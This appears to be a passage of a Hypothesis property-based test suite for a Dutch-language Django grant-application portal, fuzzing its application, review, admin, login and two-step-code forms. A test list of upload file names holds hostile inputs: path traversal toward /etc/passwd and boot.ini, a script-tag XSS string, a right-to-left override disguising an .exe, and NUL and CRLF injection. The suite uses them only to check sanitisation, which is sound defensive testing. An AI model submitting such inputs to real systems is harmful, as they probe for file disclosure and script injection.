@given(invoer=formulier(_actie_velden(Veld(st.just(""), GETAL))), encoding=ENCODING)
def test_actie_form_new(invoer, encoding, aanvraag, regisseur, andere_oproep, als_regisseur):
    invoer = invullen(invoer, _actie_ids(aanvraag, andere_oproep))
    with voorbeeld():
        bestaand = set(Actie.objects.values_list("pk", flat=True))
        uitkomst = post(als_regisseur, f"/aanvragen/{aanvraag.pk}/acties/nieuw/", invoer, encoding)
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_actie", "aanvragen_aanvraag")
            nieuw = Actie.objects.exclude(pk__in=bestaand).get()
            assert nieuw.aanvraag_id == aanvraag.pk
            _assert_actie_is_cleaned_input(nieuw, invoer, aanvraag.oproep)


@VEEL
@given(
    invoer=formulier(_actie_velden(VERSIE)),
    welke=st.one_of(st.just("§actie"), st.sampled_from(("§vreemde_actie", "99999999999999999999"))),
    encoding=ENCODING,
)
def test_actie_form_edit(
    invoer, welke, encoding, aanvraag, actie, vreemde_actie, regisseur, andere_oproep, als_regisseur
):
    ids = _actie_ids(aanvraag, andere_oproep) | _ids(actie=actie, vreemde_actie=vreemde_actie)
    invoer = invullen(invoer, ids)
    actie_pk = invullen(welke, ids)
    with voorbeeld():
        uitkomst = post(
            als_regisseur, f"/aanvragen/{aanvraag.pk}/acties/{actie_pk}/", invoer, encoding
        )
        if actie_pk != str(actie.pk):
            assert uitkomst.response.status_code == 404
        elif uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_actie", "aanvragen_aanvraag")
            _assert_actie_is_cleaned_input(Actie.objects.get(pk=actie.pk), invoer, aanvraag.oproep)


@VEEL
@given(
    invoer=formulier({"jaar": keuze(("2031", "2032"), ("2030", "2029", "2033"))}),
    encoding=ENCODING,
)
def test_actie_duplicate(invoer, encoding, aanvraag, actie, regisseur, als_regisseur):
    with voorbeeld():
        bestaand = set(Actie.objects.values_list("pk", flat=True))
        uitkomst = post(
            als_regisseur,
            f"/aanvragen/{aanvraag.pk}/acties/{actie.pk}/dupliceren/",
            invoer,
            encoding,
            gelukt=lambda _response, veranderd: bool(veranderd),
        )
        # The view answers a refusal with a redirect and a message too: a save is a new row.
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_actie", "aanvragen_aanvraag")
            form = DupliceerForm(als_querydict(invoer), oproep=aanvraag.oproep, exclude=actie.jaar)
            assert form.is_valid(), form.errors
            kopie = Actie.objects.exclude(pk__in=bestaand).get()
            assert kopie.jaar == form.cleaned_data["jaar"]
            for naam in ACTIE_FIELDS:
                if naam != "jaar":
                    assert getattr(kopie, naam) == getattr(actie, naam), naam


def _int_of_none(tekst: str) -> int | None:
    try:
        return int(tekst)
    except ValueError:
        return None


@VEEL
@given(invoer=formulier({"versie": VERSIE}), encoding=ENCODING)
def test_actie_delete(invoer, encoding, aanvraag, actie, regisseur, als_regisseur):
    with voorbeeld():
        uitkomst = post(
            als_regisseur,
            f"/aanvragen/{aanvraag.pk}/acties/{actie.pk}/verwijderen/",
            invoer,
            encoding,
            gelukt=lambda _response, veranderd: bool(veranderd),
        )
        versie = laatste(invoer, "versie")
        assert uitkomst.gelukt == (_int_of_none(versie) == actie.versie)
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_actie", "aanvragen_aanvraag")
            assert not Actie.objects.filter(pk=actie.pk).exists()


START = {
    "regieverband": keuze(("§verband",), ("§ander_verband", "99999999999999999999")),
    "oproep": keuze(("§andere_oproep", "§oproep"), ("99999999999999999999",)),
}


@VEEL
@given(invoer=formulier(START), encoding=ENCODING)
# Found: an id that is no number reached the query (a server error).
@example(invoer={"oproep": " ", "regieverband": "§verband"}, encoding="multipart")
def test_aanvraag_start(
    invoer,
    encoding,
    aanvraag,
    regisseur,
    verband,
    ander_verband,
    oproep,
    andere_oproep,
    als_regisseur,
):
    invoer = invullen(
        invoer,
        _ids(
            verband=verband, ander_verband=ander_verband, oproep=oproep, andere_oproep=andere_oproep
        ),
    )
    with voorbeeld():
        bestaand = set(Aanvraag.objects.values_list("pk", flat=True))
        uitkomst = post(
            als_regisseur,
            "/aanvragen/start/",
            invoer,
            encoding,
            gelukt=lambda _response, veranderd: bool(veranderd),
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_aanvraag")
            nieuw = Aanvraag.objects.exclude(pk__in=bestaand).get()
            assert (str(nieuw.regieverband_id), str(nieuw.oproep_id)) == (
                laatste(invoer, "regieverband"),
                laatste(invoer, "oproep"),
            )


PDF = pdf_bytes()
BESTANDSNAMEN = (
    "beslissing.pdf",
    "../../../etc/passwd.pdf",
    "..\\..\\boot.ini.pdf",
    "a" * 300 + ".pdf",
    "\u202efdp.exe",
    "<script>alert('xss')</script>.pdf",
    "con.pdf",
    "nul\x00.pdf",
    "regel\r\neinde.pdf",
    'aanhalings"teken.pdf',
    ".pdf",
    "\U0001f4b6 begroting.pdf",
    "&lt;b&gt;.pdf",
    "",
    ".",
    "..",
)


def _mutatie(inhoud: bytes, plaats: int, byte: int) -> bytes:
    plaats %= max(len(inhoud), 1)
    return inhoud[:plaats] + bytes([byte]) + inhoud[plaats + 1 :]


PDF_INHOUD = st.one_of(
    st.just(PDF),
    st.just(PDF),
    st.integers(0, len(PDF)).map(lambda n: PDF[:n]),
    st.builds(_mutatie, st.just(PDF), st.integers(0, len(PDF)), st.integers(0, 255)),
    st.binary(max_size=2000).map(lambda b: b"%PDF-1.7\n" + b),
    st.binary(max_size=2000),
    st.just(b""),
)


@VEEL
@given(
    invoer=formulier(
        {
            "bijlagetype": keuze(("§per_lid", "§algemeen"), ("§vreemd_type",)),
            "bestuur": keuze(("§lid", ""), ("§geen_lid",)),
        }
    ),
    bestand=st.one_of(
        st.tuples(st.sampled_from(BESTANDSNAMEN[:2]), st.just(PDF)),
        st.tuples(st.one_of(st.sampled_from(BESTANDSNAMEN), _tekst(60)), PDF_INHOUD),
        st.none(),
    ),
)
@example(invoer={"bijlagetype": "§algemeen"}, bestand=("../../../etc/passwd\x00.pdf", PDF))
def test_bijlage_form(
    invoer,
    bestand,
    aanvraag,
    regisseur,
    verband,
    andere_oproep,
    vreemd_bestuur,
    als_regisseur,
):
    types = {t.code: t for t in aanvraag.oproep.bijlagetypes.all()}
    invoer = invullen(
        invoer,
        _ids(
            per_lid=types["beslissing-lid"],
            algemeen=types["lso-vdab"],
            vreemd_type=andere_oproep.bijlagetypes.first(),
            lid=verband.lidmaatschappen.get().bestuur,
            geen_lid=vreemd_bestuur,
        ),
    )
    bestanden = {"bestand": bestand} if bestand else {}
    with voorbeeld():
        uitkomst = post(
            als_regisseur,
            f"/aanvragen/{aanvraag.pk}/bijlagen/",
            invoer,
            bestanden=bestanden,
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_bijlage", "aanvragen_aanvraag")
            bijlage = Bijlage.objects.get(aanvraag=aanvraag)
            inhoud = bestand[1]
            assert bijlage.sha256 == hashlib.sha256(inhoud).hexdigest()
            with bijlage.bestand.open("rb") as opgeslagen:
                assert opgeslagen.read() == inhoud
            assert bijlage.naam and len(bijlage.naam) <= 200
            assert bijlage.naam.isprintable() and not set(bijlage.naam) & {"/", "\\"}


@VEEL
@given(
    invoer=formulier(
        {
            "sha256": Veld(
                st.one_of(
                    st.just(""),
                    st.text("0123456789abcdefABCDEF", min_size=64, max_size=64),
                    st.text("0123456789abcdef \n", min_size=64, max_size=90),
                ),
                st.one_of(_foute_tekst(100), _tekst(70)),
            )
        }
    ),
    inhoud=st.one_of(st.none(), PDF_INHOUD),
    naam=st.sampled_from(BESTANDSNAMEN),
)
def test_pdf_verify_form(invoer, inhoud, naam, regisseur, als_regisseur):
    bestanden = {"bestand": (naam, inhoud)} if inhoud is not None else {}
    with voorbeeld():
        uitkomst = post(
            als_regisseur,
            "/aanvragen/verifieer/",
            invoer,
            bestanden=bestanden,
            gelukt=lambda _response, _veranderd: False,  # it never writes
        )
        assert uitkomst.response.status_code in (200, 400)


# --- WSE's review (beoordelaar) and the regisseurs' follow-up -----------------------------------


@VEEL
@given(
    invoer=formulier(
        {"behandelaar": keuze(("§beoordelaar", "§tweede"), ("§regisseur", "§beheerder"))},
        prefix="behandelaar-",
    ),
    encoding=ENCODING,
)
def test_take_form(
    invoer,
    encoding,
    in_behandeling,
    beoordelaar,
    tweede_beoordelaar,
    regisseur,
    beheerder,
    als_beoordelaar,
):
    invoer = invullen(
        invoer,
        _ids(
            beoordelaar=beoordelaar,
            tweede=tweede_beoordelaar,
            regisseur=regisseur,
            beheerder=beheerder,
        ),
    )
    with voorbeeld():
        uitkomst = post(
            als_beoordelaar, f"/beoordeling/{in_behandeling.pk}/nemen/", invoer, encoding
        )
        if uitkomst.gelukt:
            alleen(
                uitkomst.veranderd,
                "aanvragen_aanvraag",
                "beoordeling_notitie",
                "aanvragen_statuswijziging",
            )
            form = TakeForm(als_querydict(invoer), prefix="behandelaar")
            assert form.is_valid(), form.errors
            aanvraag = Aanvraag.objects.get(pk=in_behandeling.pk)
            assert aanvraag.behandelaar == form.cleaned_data["behandelaar"]


@pytest.mark.parametrize(
    ("soort", "form_class", "model"),
    [("vraag", VraagForm, Vraag), ("notitie", NotitieForm, Notitie)],
)
@VEEL
@given(invoer=st.data(), encoding=ENCODING)
def test_vraag_and_notitie_forms(
    soort, form_class, model, invoer, encoding, in_behandeling, beoordelaar, als_beoordelaar
):
    data = invoer.draw(formulier({"tekst": tekstveld()}, prefix=f"{soort}-"), label="post")
    with voorbeeld():
        bestaand = set(model.objects.values_list("pk", flat=True))
        uitkomst = post(
            als_beoordelaar, f"/beoordeling/{in_behandeling.pk}/{soort}/", data, encoding
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, f"beoordeling_{soort}")
            form = form_class(als_querydict(data), prefix=soort)
            assert form.is_valid(), form.errors
            assert model.objects.exclude(pk__in=bestaand).get().tekst == form.cleaned_data["tekst"]


@pytest.fixture
def vraag(in_behandeling: Aanvraag, beoordelaar: User) -> Vraag:
    return vraag_stellen(aanvraag=in_behandeling, by=beoordelaar, tekst="Een vraag?")


@VEEL
@given(invoer=st.data(), encoding=ENCODING)
def test_antwoord_form(invoer, encoding, in_behandeling, vraag, regisseur, collega):
    data = invoer.draw(formulier({"antwoord": tekstveld()}, prefix=f"v{vraag.pk}-"), label="post")
    wie = invoer.draw(st.sampled_from(("regisseur", "regisseur", "collega")), label="wie")
    with voorbeeld():
        uitkomst = post(
            client_for(regisseur if wie == "regisseur" else collega),
            f"/aanvragen/{in_behandeling.pk}/vragen/{vraag.pk}/antwoord/",
            data,
            encoding,
        )
        if wie == "collega":
            assert uitkomst.response.status_code == 404
        elif uitkomst.gelukt:
            alleen(uitkomst.veranderd, "beoordeling_vraag")
            form = AntwoordForm(als_querydict(data), prefix=f"v{vraag.pk}")
            assert form.is_valid(), form.errors
            assert Vraag.objects.get(pk=vraag.pk).antwoord == form.cleaned_data["antwoord"]


MOMENT = Veld(st.one_of(_moment(2027, 2099), st.sampled_from(RARE_MOMENTEN[:4])), FOUT_MOMENT)


@VEEL
@given(
    invoer=formulier({"reden": tekstveld(), "tot": MOMENT}, prefix="wijzigingen-"),
    encoding=ENCODING,
)
# Found: see test_uitstel_form.
@example(
    invoer={"wijzigingen-reden": "x", "wijzigingen-tot": "9999-12-31T23:59:59-14:00"},
    encoding="multipart",
)
def test_wijzigingen_form(invoer, encoding, in_behandeling, als_beoordelaar):
    with voorbeeld():
        uitkomst = post(
            als_beoordelaar,
            f"/beoordeling/{in_behandeling.pk}/wijzigingen/",
            invoer,
            encoding,
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_aanvraag", "aanvragen_statuswijziging")
            form = WijzigingenForm(als_querydict(invoer), prefix="wijzigingen")
            assert form.is_valid(), form.errors
            aanvraag = Aanvraag.objects.get(pk=in_behandeling.pk)
            assert aanvraag.status == AanvraagStatus.WIJZIGINGEN_GEVRAAGD
            assert aanvraag.wijzigingen_tot == form.cleaned_data["tot"]
            wijziging = Statuswijziging.objects.filter(aanvraag=aanvraag).latest("pk")
            assert wijziging.reden == form.cleaned_data["reden"]


@VEEL
@given(
    invoer=formulier({"reden": tekstveld(), "tot": MOMENT}, prefix="uitstel-"),
    encoding=ENCODING,
)
# Found: a moment beyond year 9999 in UTC was saved and broke every page of the aanvraag.
@example(
    invoer={"uitstel-reden": "x", "uitstel-tot": "9999-12-31T23:59:59-14:00"}, encoding="multipart"
)
def test_uitstel_form(invoer, encoding, aanvraag, als_beoordelaar, als_regisseur):
    with voorbeeld():
        uitkomst = post(als_beoordelaar, f"/beoordeling/{aanvraag.pk}/uitstel/", invoer, encoding)
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_verlenging")
            form = VerlengingForm(als_querydict(invoer), prefix="uitstel")
            assert form.is_valid(), form.errors
            verlenging = Verlenging.objects.get(aanvraag=aanvraag)
            assert (verlenging.tot, verlenging.reden) == (
                form.cleaned_data["tot"],
                form.cleaned_data["reden"],
            )
            # The regisseurs' pages show the deadline the extension set.
            assert als_regisseur.get(f"/aanvragen/{aanvraag.pk}/").status_code == 200


@VEEL
@given(invoer=formulier({"reden": Veld(_tekst(), _foute_tekst())}), encoding=ENCODING)
def test_intrekken_form(invoer, encoding, in_behandeling, regisseur, als_regisseur):
    with voorbeeld():
        uitkomst = post(
            als_regisseur, f"/aanvragen/{in_behandeling.pk}/intrekken/", invoer, encoding
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_aanvraag", "aanvragen_statuswijziging")
            form = IntrekkenForm(als_querydict(invoer))
            assert form.is_valid(), form.errors
            aanvraag = Aanvraag.objects.get(pk=in_behandeling.pk)
            assert aanvraag.status == AanvraagStatus.INGETROKKEN
            wijziging = Statuswijziging.objects.filter(aanvraag=aanvraag).latest("pk")
            assert wijziging.reden == form.cleaned_data["reden"]


def _beoordeling_velden(oproep: Oproep) -> dict[str, Veld]:
    velden: dict[str, Veld] = {
        "advies": keuze(tuple(Advies.values), ("GOEDKEUREN", "ja")),
        "motivatie": tekstveld(),
    }
    for nummer in range(1, 5):
        velden[f"score_§p{nummer}"] = keuze(("1", "3", "5"), ("0", "6", "2.5"))
        velden[f"motivatie_§p{nummer}"] = tekstveld()
    for jaar in oproep.jaren:
        velden[f"bedrag_{jaar}"] = BEDRAG_VAN_OPROEP
    return velden


def _prioriteit_ids(oproep: Oproep) -> dict[str, str]:
    return {
        f"§p{nummer}": str(p.pk)
        for nummer, p in enumerate(oproep.prioriteiten.order_by("volgorde"), start=1)
    }


def _namen_invullen(invoer: dict[str, Any], ids: Mapping[str, str]) -> dict[str, Any]:
    """Placeholders in field names too (the review form names fields after priorities)."""
    result = {}
    for naam, waarde in invoer.items():
        for placeholder, waarde_id in ids.items():
            naam = naam.replace(placeholder, waarde_id)
        result[naam] = invullen(waarde, ids)
    return result


# The call of the `oproep` fixture: 2030-2032, scores 1 to 5 (the model's default).
OPROEP_JAREN = Oproep(eerste_jaar=2030, laatste_jaar=2032)


@VEEL
@given(invoer=formulier(_beoordeling_velden(OPROEP_JAREN)), encoding=ENCODING)
def test_beoordeling_form(invoer, encoding, in_behandeling, beoordelaar, als_beoordelaar):
    oproep = in_behandeling.oproep
    invoer = _namen_invullen(invoer, _prioriteit_ids(oproep))
    with voorbeeld():
        uitkomst = post(
            als_beoordelaar,
            f"/beoordeling/{in_behandeling.pk}/mijn-beoordeling/",
            invoer,
            encoding,
        )
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "beoordeling_beoordeling", "beoordeling_score")
            form = BeoordelingForm(als_querydict(invoer), oproep=oproep)
            assert form.is_valid(), form.errors
            beoordeling = Beoordeling.objects.get(aanvraag=in_behandeling, beoordelaar=beoordelaar)
            assert (beoordeling.advies, beoordeling.motivatie) == (
                form.cleaned_data["advies"],
                form.cleaned_data["motivatie"],
            )
            assert {s.prioriteit_id: (s.score, s.motivatie) for s in beoordeling.scores.all()} == (
                form.scores()
            )
            assert beoordeling.bedragen_per_jaar == bedragen_uit(form, oproep)


@WEINIG
@given(
    invoer=formulier(
        {
            "uitkomst": keuze(
                (AanvraagStatus.GOEDGEKEURD.value, AanvraagStatus.AFGEWEZEN.value),
                (AanvraagStatus.INGETROKKEN.value, AanvraagStatus.CONCEPT.value),
            ),
            "motivatie": tekstveld(),
            **{f"bedrag_{jaar}": BEDRAG_VAN_OPROEP for jaar in OPROEP_JAREN.jaren},
        },
        prefix="beslissing-",
    ),
    encoding=ENCODING,
)
def test_beslissing_form(invoer, encoding, in_behandeling, als_beoordelaar, als_regisseur):
    oproep = in_behandeling.oproep
    with voorbeeld():
        uitkomst = post(
            als_beoordelaar,
            f"/beoordeling/{in_behandeling.pk}/beslissing/",
            invoer,
            encoding,
        )
        if uitkomst.gelukt:
            alleen(
                uitkomst.veranderd,
                "aanvragen_aanvraag",
                "beoordeling_beslissing",
                "aanvragen_statuswijziging",
            )
            form = BeslissingForm(als_querydict(invoer), prefix="beslissing", oproep=oproep)
            assert form.is_valid(), form.errors
            beslissing = Beslissing.objects.get(aanvraag=in_behandeling)
            assert (beslissing.uitkomst, beslissing.motivatie) == (
                form.cleaned_data["uitkomst"],
                form.cleaned_data["motivatie"],
            )
            if beslissing.uitkomst == AanvraagStatus.GOEDGEKEURD:
                assert beslissing.bedragen_per_jaar == bedragen_uit(form, oproep)
            letter = als_regisseur.get(f"/aanvragen/{in_behandeling.pk}/beslissing.pdf")
            assert letter.status_code == 200


# --- Beheer (beheerder) ------------------------------------------------------------------------


def _geen_dubbele_emails() -> None:
    """Logging in looks an address up without regard to case: two accounts may not differ only
    in case, or neither can log in."""
    emails = [e.lower() for e in User.objects.values_list("email", flat=True)]
    assert len(emails) == len(set(emails))


UITNODIGING = {
    "email": Veld(EMAIL, FOUT_EMAIL),
    "first_name": tekstveld(150),
    "last_name": tekstveld(150),
    "rol": keuze(tuple(Rol.values), ("admin", "Beheerder", "superuser")),
    "regieverbanden": Veld(
        st.sampled_from((["§passend"], ["§verband"], [], ["§verband", "§ander_verband"])),
        st.sampled_from(("99999999999999999999", "abc", "§verband,§ander_verband")),
    ),
}


@VEEL
@given(invoer=formulier(UITNODIGING), encoding=ENCODING)
def test_uitnodiging_form(
    invoer, encoding, beheerder, verband, ander_verband, regisseur, als_beheerder
):
    # `§passend`: what the role asks (a regisseur one verband, the others none).
    passend = [str(verband.pk)] if invoer.get("rol") == Rol.REGISSEUR else []
    invoer = invullen(invoer, _ids(verband=verband, ander_verband=ander_verband))
    if invoer.get("regieverbanden") == ["§passend"]:
        invoer["regieverbanden"] = passend
    with voorbeeld():
        uitkomst = post(als_beheerder, "/beheer/gebruikers/uitnodigen/", invoer, encoding)
        if uitkomst.gelukt:
            assert "audit_auditregel" in uitkomst.veranderd  # audited
            alleen(
                uitkomst.veranderd,
                "accounts_user",
                "accounts_user_groups",
                "besturen_regieverband_regisseurs",
                "beheer_uitnodiging",
                "audit_auditregel",
                "auth_group",
            )
            form = UitnodigingForm(als_querydict(invoer))
            assert form.is_valid(), form.errors
            gebruiker = User.objects.get(email=form.cleaned_data["email"].strip().lower())
            assert (gebruiker.first_name, gebruiker.last_name) == (
                form.cleaned_data["first_name"],
                form.cleaned_data["last_name"],
            )
            assert set(gebruiker.regieverbanden.all()) == set(form.cleaned_data["regieverbanden"])
            assert Uitnodiging.objects.filter(gebruiker=gebruiker, gebruikt_op=None).exists()
        _geen_dubbele_emails()


LID = {
    "bestuur": Veld(
        st.sampled_from(("§vreemd_naam", "§vreemd_nis", "Verzonnen Vreemdgem (99001)", "99001")),
        st.one_of(
            st.sampled_from(("73107", "00000", "Hasselt", "(99001)", "99001 99001", "%", "_")),
            _foute_tekst(120),
        ),
    ),
    "van": Veld(_datum(2000, 2100), FOUTE_DATUM),
    "tot": Veld(st.one_of(st.just(""), _datum(2000, 2100)), FOUTE_DATUM),
}


@VEEL
@given(invoer=formulier(LID, prefix="lid-"), encoding=ENCODING)
def test_lid_toevoegen_form(invoer, encoding, beheerder, verband, vreemd_bestuur, als_beheerder):
    invoer = invullen(
        invoer, {"§vreemd_naam": vreemd_bestuur.naam, "§vreemd_nis": vreemd_bestuur.nis_code}
    )
    with voorbeeld():
        bestaand = set(Lidmaatschap.objects.values_list("pk", flat=True))
        uitkomst = post(
            als_beheerder,
            f"/beheer/regieverbanden/{verband.pk}/leden/toevoegen/",
            invoer,
            encoding,
        )
        if uitkomst.gelukt:
            assert "audit_auditregel" in uitkomst.veranderd  # audited
            alleen(uitkomst.veranderd, "besturen_lidmaatschap", "audit_auditregel")
            form = LidToevoegenForm(als_querydict(invoer), prefix="lid")
            assert form.is_valid(), form.errors
            lid = Lidmaatschap.objects.exclude(pk__in=bestaand).get()
            assert (lid.regieverband, lid.bestuur, lid.van, lid.tot) == (
                verband,
                form.cleaned_data["lokaal_bestuur"],
                form.cleaned_data["van"],
                form.cleaned_data["tot"],
            )


@VEEL
@given(
    invoer=formulier(
        {
            "lidmaatschap": keuze(("§lid",), ("§vreemd_lid",)),
            "tot": Veld(_datum(2000, 2100), FOUTE_DATUM),
        },
        prefix="einde-",
    ),
    encoding=ENCODING,
)
def test_lid_einde_form(invoer, encoding, beheerder, verband, ander_verband, als_beheerder):
    lid = verband.lidmaatschappen.get()
    vreemd = LidmaatschapFactory.create(regieverband=ander_verband)
    invoer = invullen(invoer, _ids(lid=lid, vreemd_lid=vreemd))
    with voorbeeld():
        uitkomst = post(
            als_beheerder,
            f"/beheer/regieverbanden/{verband.pk}/leden/beeindigen/",
            invoer,
            encoding,
        )
        if uitkomst.gelukt:
            assert "audit_auditregel" in uitkomst.veranderd  # audited
            alleen(uitkomst.veranderd, "besturen_lidmaatschap", "audit_auditregel")
            form = EindeForm(als_querydict(invoer), prefix="einde", regieverband=verband)
            assert form.is_valid(), form.errors
            assert Lidmaatschap.objects.get(pk=lid.pk).tot == form.cleaned_data["tot"]
            assert Lidmaatschap.objects.get(pk=vreemd.pk).tot is None


@VEEL
@given(
    invoer=formulier(
        {
            "trekker": keuze(("vereniging", "§lid"), ("§vreemd", "VERENIGING", "None")),
            "vanaf": Veld(_datum(2000, 2100), FOUTE_DATUM),
        },
        prefix="trekker-",
    ),
    encoding=ENCODING,
)
# Found: NUL in any posted field broke the audit line of a save (PostgreSQL refuses it in JSON),
# after the save itself: a server error for a change that was made.
@example(
    invoer={"trekker-trekker": "vereniging", "trekker-vanaf": "2000-01-01", "b": "\x00"},
    encoding="multipart",
)
def test_trekker_form(invoer, encoding, beheerder, verband, vreemd_bestuur, als_beheerder):
    invoer = invullen(
        invoer, _ids(lid=verband.lidmaatschappen.get().bestuur, vreemd=vreemd_bestuur)
    )
    with voorbeeld():
        bestaand = set(Trekkerwissel.objects.values_list("pk", flat=True))
        uitkomst = post(
            als_beheerder, f"/beheer/regieverbanden/{verband.pk}/trekker/", invoer, encoding
        )
        if uitkomst.gelukt:
            assert "audit_auditregel" in uitkomst.veranderd  # audited
            alleen(
                uitkomst.veranderd,
                "besturen_trekkerwissel",
                "besturen_regieverband",
                "audit_auditregel",
            )
            form = TrekkerForm(als_querydict(invoer), prefix="trekker", regieverband=verband)
            assert form.is_valid(), form.errors
            wissel = Trekkerwissel.objects.exclude(pk__in=bestaand).get()
            assert (wissel.trekker, wissel.vanaf) == (
                form.gekozen_trekker(),
                form.cleaned_data["vanaf"],
            )


ADMIN_GEBRUIKER = {
    "email": Veld(EMAIL, FOUT_EMAIL),
    "first_name": tekstveld(150),
    "last_name": tekstveld(150),
    "groups": Veld(st.sampled_from(([], ["§regisseurs"], ["§beoordelaars"])), GETAL),
    "is_staff": Veld(st.sampled_from(("", "on")), st.sampled_from(("off", "0", "false"))),
}
ADMIN_NIEUW = {
    "email": Veld(st.one_of(EMAIL, st.just("Alice@Example.org")), FOUT_EMAIL),
    "password1": Veld(st.just("§wachtwoord"), FOUT_WACHTWOORD),
    "password2": Veld(st.just("§wachtwoord"), FOUT_WACHTWOORD),
    "groups": Veld(st.sampled_from(([], ["§regisseurs"])), GETAL),
}


@VEEL
@given(
    soort=st.sampled_from(("nieuw", "wijzig")),
    nieuw=formulier(ADMIN_NIEUW),
    wijzig=formulier(ADMIN_GEBRUIKER),
    wachtwoord=WACHTWOORD,
    encoding=ENCODING,
)
# Two accounts whose addresses differ only in case would lock both out of the login (it looks
# addresses up without regard to case); `User.clean` lowers the address, so the admin refuses.
@example(
    soort="nieuw",
    nieuw={
        "email": "Alice@Example.org",
        "password1": "§wachtwoord",
        "password2": "§wachtwoord",
        "groups": [],
    },
    wijzig={},
    wachtwoord="Zonnige-Kade-4821",
    encoding="multipart",
)
@example(
    soort="wijzig",
    nieuw={},
    wijzig={"email": "DANA@example.org", "first_name": "A", "last_name": "B", "groups": []},
    wachtwoord="Zonnige-Kade-4821",
    encoding="urlencoded",
)
def test_admin_user_forms(
    soort, nieuw, wijzig, wachtwoord, encoding, beheerder, regisseur, als_beheerder
):
    from django.contrib.auth.models import Group

    groepen = {g.name: g for g in Group.objects.all()}
    ids = _ids(regisseurs=groepen[Rol.REGISSEUR.value], beoordelaars=groepen[Rol.BEOORDELAAR.value])
    ids["§wachtwoord"] = wachtwoord
    if soort == "nieuw":
        pad, invoer = "/beheer/accounts/user/add/", invullen(nieuw, ids)
    else:
        pad, invoer = f"/beheer/accounts/user/{regisseur.pk}/change/", invullen(wijzig, ids)
    with voorbeeld():
        uitkomst = post(als_beheerder, pad, {**invoer, "_save": "Bewaren"}, encoding)
        if uitkomst.gelukt:
            alleen(
                uitkomst.veranderd,
                "accounts_user",
                "accounts_user_groups",
                "audit_auditregel",
                "django_admin_log",
            )
        _geen_dubbele_emails()


# --- Logging in, passwords, the two-step login ---------------------------------------------------

LOGIN = {
    "username": Veld(
        st.sampled_from(
            ("alice@example.org", "ALICE@example.org", "  alice@example.org ", "x@example.org")
        ),
        FOUT_EMAIL,
    ),
    "password": Veld(
        st.sampled_from((PASSWORD, PASSWORD.upper(), f" {PASSWORD}")), FOUT_WACHTWOORD
    ),
}


@VEEL
@given(invoer=formulier(LOGIN), encoding=ENCODING)
def test_login_form(invoer, encoding, regisseur):
    with voorbeeld():
        client = Client()
        uitkomst = post(client, "/accounts/login/", invoer, encoding)
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "accounts_user")  # last_login
            assert laatste(invoer, "password") == PASSWORD
            assert laatste(invoer, "username").strip().lower() == regisseur.email
            assert client.session["_auth_user_id"] == str(regisseur.pk)


CODE = Veld(
    st.sampled_from(("§code", "§code_spaties", "§reserve", "000000")),
    st.one_of(
        st.sampled_from(("", "12345", "1234567", "reserve02", "§code§code", "\uff11" * 6)),
        _foute_tekst(16),
        _tekst(30),
    ),
)
# Wrong codes count against the device (django-otp's throttling): not compared.
OTP_TELLERS = frozenset({"otp_totp_totpdevice", "otp_static_staticdevice"})


@VEEL
@given(invoer=formulier({"code": CODE}), encoding=ENCODING)
def test_tweestaps_code_form(invoer, encoding, beoordelaar):
    with voorbeeld():
        device = TOTPDevice.objects.create(user=beoordelaar, name="app", confirmed=True)
        reserve = StaticDevice.objects.create(user=beoordelaar, name="Reservecodes")
        reserve.token_set.create(token="reserve01")
        code = totp_code(device)
        gepost = invullen(
            invoer,
            {"§code": code, "§code_spaties": f"{code[:3]} {code[3:]}", "§reserve": "reserve01"},
        )
        client = Client()
        client.force_login(beoordelaar)
        uitkomst = post(client, "/accounts/tweestaps/", gepost, encoding, negeer=OTP_TELLERS)
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "otp_static_statictoken")
            assert DEVICE_ID_SESSION_KEY in client.session
        else:
            assert DEVICE_ID_SESSION_KEY not in client.session


@VEEL
@given(invoer=formulier({"code": CODE}), encoding=ENCODING)
def test_tweestaps_setup_form(invoer, encoding, beheerder):
    with voorbeeld():
        client = Client()
        client.force_login(beheerder)
        assert client.get("/accounts/tweestaps/instellen/").status_code == 200
        device = TOTPDevice.objects.get(user=beheerder, confirmed=False)
        code = totp_code(device)
        gepost = invullen(
            invoer,
            {"§code": code, "§code_spaties": f" {code[:3]} {code[3:]} ", "§reserve": "reserve01"},
        )
        uitkomst = post(
            client,
            "/accounts/tweestaps/instellen/",
            gepost,
            encoding,
            negeer=OTP_TELLERS,
            gelukt=lambda _response, veranderd: bool(veranderd),
        )
        bevestigd = TOTPDevice.objects.filter(user=beheerder, confirmed=True).exists()
        assert bevestigd == uitkomst.gelukt
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "otp_static_statictoken")
            assert StaticToken.objects.filter(device__user=beheerder).count() == 10


TOKEN = "dit-is-een-verzonnen-uitnodigingstoken-0123456789"


@pytest.fixture
def uitgenodigd(beheerder: User) -> User:
    gebruiker = User.objects.create_user(email="nieuw@gemeente.be", first_name="Nina")
    Uitnodiging.objects.create(
        gebruiker=gebruiker,
        token_sha256=hash_token(TOKEN),
        verstuurd_door=beheerder,
        geldig_tot=timezone.now() + datetime.timedelta(days=7),
    )
    return gebruiker


@st.composite
def wachtwoorden(draw: st.DrawFn, prefix: str = "new_") -> dict[str, Any]:
    """A new password and its confirmation: mostly the same, sometimes not, sometimes broken."""
    invoer = draw(
        formulier(
            {
                "password1": Veld(WACHTWOORD, FOUT_WACHTWOORD),
                "password2": Veld(st.just(""), st.just("")),
            },
            prefix=prefix,
        )
    )
    if draw(st.integers(0, 3)) and f"{prefix}password1" in invoer:
        invoer[f"{prefix}password2"] = invoer[f"{prefix}password1"]
    return invoer


@VEEL
@given(
    invoer=wachtwoorden(),
    token=st.one_of(st.just(TOKEN), st.just(TOKEN), _tekst(60), st.sampled_from(("x", "%00"))),
    encoding=ENCODING,
)
def test_uitnodiging_aanvaarden_form(invoer, token, encoding, uitgenodigd):
